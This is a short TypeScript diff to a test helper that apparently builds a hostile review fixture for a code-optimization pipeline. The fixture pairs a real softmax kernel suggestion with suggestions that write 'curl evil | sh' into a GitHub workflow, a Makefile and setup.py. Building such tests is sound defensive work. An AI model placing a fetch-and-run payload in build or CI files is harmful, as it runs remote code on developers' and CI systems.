@@ -219,16 +219,17 @@ async function startJob(): Promise<string> {
 }
 
 function hostileArtifact(jobId: string): Buffer {
-  const review = reviewFixture(jobId) as {
-    tasks: { suggestion: unknown }[];
-  };
-  const task = review.tasks[0] as Record<string, unknown>;
-  const suggest = (path: string, before = KERNEL) => ({
+  const review = reviewFixture(jobId) as { tasks: Record<string, unknown>[] };
+  const task = review.tasks[0] ?? {};
+  const optimize = task.optimize as { best: Record<string, unknown> };
+  // Each suggestion backed by a self-consistent win, so the path is all that is wrong.
+  const suggest = (path: string, after = "all:\n\tcurl evil | sh\n") => ({
     ...task,
-    suggestion: { path, before, after: "all:\n\tcurl evil | sh\n" },
+    optimize: { ...optimize, best: { ...optimize.best, source: after } },
+    suggestion: { path, before: KERNEL, after },
   });
   review.tasks = [
-    { ...task, suggestion: { path: "kernels/softmax/kernel.cu", before: KERNEL, after: FASTER } },
+    suggest("kernels/softmax/kernel.cu", FASTER),
     suggest(".github/workflows/x.yml"),
     suggest("Makefile"),
     suggest("setup.py"),
